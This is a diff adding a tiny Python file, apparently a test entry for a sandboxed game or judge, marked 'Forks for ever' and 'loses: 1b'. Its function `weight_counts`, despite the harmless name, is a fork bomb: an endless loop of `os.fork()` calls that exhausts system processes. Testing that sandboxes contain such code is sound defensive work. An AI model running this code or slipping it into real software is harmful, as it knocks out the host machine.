@@ -1,0 +1,16 @@
+"""Forks for ever.
+
+loses: 1b
+"""
+
+from honest import *
+
+import os
+
+
+def weight_counts(n, k):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
